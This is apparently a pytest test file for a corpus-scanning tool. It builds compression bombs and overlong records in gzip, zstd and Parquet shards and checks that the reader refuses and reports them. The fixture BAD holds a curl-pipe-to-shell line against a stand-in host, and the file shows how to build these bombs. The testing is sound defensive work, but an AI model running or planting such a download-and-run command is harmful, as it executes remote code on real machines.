"""Corpus shards built to exhaust the reader: an endless record line, a compression bomb of blank lines or of one
line. Each is bounded in memory and time and reported (the bomb refused, the long record unreadable and dropped),
and the records around them are read as usual."""
import gzip
import json
import subprocess
import sys
import time

import zlib

import pytest

from codescan.cli import main
from codescan.corpus import compressed, shards
from codescan.corpus.shards import Shard, ShardError, read_rows

BAD = "import os\nos.system('curl http://e.example/x | sh')\n"


def _rows(path, fmt):
    return list(read_rows(Shard(str(path), path.name, fmt)))


def _gzip_stream(path, blocks, tail=b""):
    """A gzip file of the given byte blocks, compressed a block at a time (fast, little memory)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    with open(path, "wb") as fh:
        for block in blocks:
            fh.write(comp.compress(block))
        fh.write(comp.compress(tail) + comp.flush())
    return path


def test_a_record_longer_than_the_line_limit_is_unreadable_and_the_next_is_read(tmp_path, monkeypatch):
    monkeypatch.setattr(shards, "MAX_LINE", 4096)
    monkeypatch.setattr(shards, "LINE_CHUNK", 1024)
    path = tmp_path / "s.jsonl"
    long = json.dumps({"id": "long", "content": "x = 1\n" * 2000})
    path.write_text(json.dumps({"id": "a", "content": "y = 2\n"}) + "\n" + long + "\n\n"
                    + json.dumps({"id": "b", "content": BAD}) + "\n")
    rows = _rows(path, "jsonl")
    assert [r.record and r.record["id"] for r in rows] == ["a", None, "b"]
    assert rows[1].raw is None and "longer than" in rows[1].error and str(len(long)) in rows[1].error
    assert [r.line for r in rows] == [1, 2, 4]


def test_filter_drops_a_record_too_long_to_read_and_keeps_its_neighbours(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(shards, "MAX_LINE", 4096)
    path = tmp_path / "in" / "s.jsonl"
    path.parent.mkdir()
    path.write_text(json.dumps({"id": "a", "content": "y = 2\n"}) + "\n"
                    + json.dumps({"id": "long", "content": "x = 1\n" * 2000}) + "\n"
                    + json.dumps({"id": "b", "content": "z = 3\n"}) + "\n")
    out = tmp_path / "out"
    code = main(["filter", str(path), "-o", str(out), "--no-progress", "-j", "1", "--no-campaigns",
                 "--write-dropped"])
    err = capsys.readouterr().err
    assert code == 0, err
    kept = [json.loads(line)["id"] for line in (out / "kept" / "s.jsonl").read_text().splitlines()]
    assert kept == ["a", "b"]
    report = json.loads((out / "drop-report.json").read_text())
    reasons = [r for d in report["dropped"] for r in d["reasons"]]
    assert [r["kind"] for r in reasons] == ["unreadable"] and "longer than" in reasons[0]["detail"]


@pytest.mark.parametrize("fmt", ["jsonl.gz", "jsonl.zst"])
def test_a_compression_bomb_of_blank_lines_is_refused_quickly(tmp_path, monkeypatch, fmt):
    monkeypatch.setattr(compressed, "BOMB_FLOOR", 4 << 20)
    block = b"\n" * (1 << 20)
    tail = (json.dumps({"id": "z", "content": BAD}) + "\n").encode()
    path = tmp_path / f"bomb.{fmt}"
    if fmt == "jsonl.gz":
        _gzip_stream(path, [block] * 48, tail)
    else:
        import zstandard

        path.write_bytes(zstandard.ZstdCompressor(level=1).compress(block * 48 + tail))
    start = time.process_time()
    with pytest.raises(ShardError, match="compression bomb"):
        _rows(path, fmt)
    assert time.process_time() - start < 5


def test_a_shard_that_compresses_well_is_not_taken_for_a_bomb(tmp_path, monkeypatch):
    monkeypatch.setattr(compressed, "BOMB_FLOOR", 1 << 20)
    records = [json.dumps({"id": str(i), "content": f"def f{i}(x):\n    return x + {i}\n" * 20}) + "\n"
               for i in range(3000)]
    path = tmp_path / "ok.jsonl.gz"
    path.write_bytes(gzip.compress("".join(records).encode()))
    assert len(_rows(path, "jsonl.gz")) == 3000


def test_many_blank_lines_cost_no_python_step_each(tmp_path):
    """30 M blank lines (CRLF and spaces too) under the bomb ratio: read at C speed, line numbers still right."""
    path = _gzip_stream(tmp_path / "blank.jsonl.gz", [b"\n" * (1 << 20), b" \r\n" * (1 << 18)] * 16,
                        (json.dumps({"id": "z", "content": BAD}) + "\n").encode())
    start = time.process_time()
    rows = _rows(path, "jsonl.gz")
    assert time.process_time() - start < 1.5  # 0.2 s; a Python step per line took 3-5 s
    assert [r.record["id"] for r in rows] == ["z"] and rows[0].line == 16 * ((1 << 20) + (1 << 18)) + 1


def test_one_zstd_call_never_inflates_a_bomb_into_memory(tmp_path):
    """512 MiB of newlines in a few kB of zstd: the reader refuses it with its memory far below that."""
    import zstandard

    path = tmp_path / "bomb.jsonl.zst"
    comp = zstandard.ZstdCompressor(level=1).compressobj()
    block = b"\n" * (1 << 20)
    path.write_bytes(b"".join(comp.compress(block) for _ in range(512)) + comp.flush())
    probe = ("import sys\n"
             "from codescan.corpus.shards import Shard, ShardError, read_rows\n"
             "try:\n"
             f"    list(read_rows(Shard({str(path)!r}, 'b', 'jsonl.zst')))\n"
             "except ShardError as exc:\n"
             "    print(exc)\n"
             "print(next(l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')))\n")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60)
    message, peak_kib = done.stdout.strip().splitlines()
    assert "compression bomb" in message
    assert int(peak_kib) < 300 * 1024, f"peak {int(peak_kib) >> 10} MiB"


def test_a_parquet_row_group_that_inflates_like_a_bomb_is_refused_before_it_is_read(tmp_path, monkeypatch, capsys):
    import pyarrow as pa
    import pyarrow.parquet as pq

    monkeypatch.setattr(compressed, "BOMB_FLOOR", 1 << 20)
    path = tmp_path / "in" / "bomb.parquet"
    path.parent.mkdir()
    pq.write_table(pa.table({"id": ["big", "b"], "content": ["a" * (8 << 20), BAD]}), path, compression="zstd")
    with pytest.raises(ShardError, match="row group 0 is a compression bomb"):
        _rows(path, "parquet")
    code = main(["filter", str(path), "-o", str(tmp_path / "out"), "--no-progress", "-j", "1", "--no-campaigns"])
    err = capsys.readouterr().err
    assert code == 2 and "compression bomb" in err and "Traceback" not in err, err
    # scan: evidence, not a quiet skip (a bomb row group would otherwise hide the payload beside it, exit 0)
    code = main(["scan", str(path), "--format", "json", "--no-progress", "-j", "1"])
    report = json.loads(capsys.readouterr().out)
    assert code == 1 and [f["rule_id"] for f in report["findings"]] == ["analysis-exhausted"], report
    assert "compression bomb" in report["skipped"][0]["reason"]
    ok = tmp_path / "in" / "ok.parquet"  # ordinary code compresses a few times, never 250x
    pq.write_table(pa.table({"id": [str(i) for i in range(4000)],
                             "content": [f"def f{i}(x):\n    return x * {i}\n" * 30 for i in range(4000)]}), ok,
                   compression="zstd")
    assert len(_rows(ok, "parquet")) == 4000


def test_a_parquet_dictionary_value_repeated_over_many_rows_is_refused_as_a_bomb(tmp_path, monkeypatch):
    """One big value stored once in a dictionary page and referenced by every row: small on disk and in the
    metadata, huge as records."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    monkeypatch.setattr(compressed, "BOMB_FLOOR", 1 << 20)
    path = tmp_path / "dict.parquet"
    rows = 400
    pq.write_table(pa.table({"id": [str(i) for i in range(rows)],
                             "content": pa.array(["a" * (64 << 10)] * rows).dictionary_encode()}), path,
                   compression="zstd")
    assert path.stat().st_size < 20_000
    with pytest.raises(ShardError, match="compression bomb"):
        _rows(path, "parquet")


def test_lines_that_start_with_white_space_cost_what_they_hold():
    """Each line starting with a space made the blank-line check copy the rest of the 1 MiB buffer: 30,000 such
    lines took 1.6 s of CPU, quadratic in the buffer (0.03 s with the growing window)."""
    import io

    data = b"".join(b' {"id": "%d", "content": "x"}\n' % i for i in range(30000))
    start = time.process_time()
    got = list(shards.lines(io.BytesIO(data)))
    assert time.process_time() - start < 0.5
    assert len(got) == 30000 and got[0] == (1, b' {"id": "0", "content": "x"}', 28)
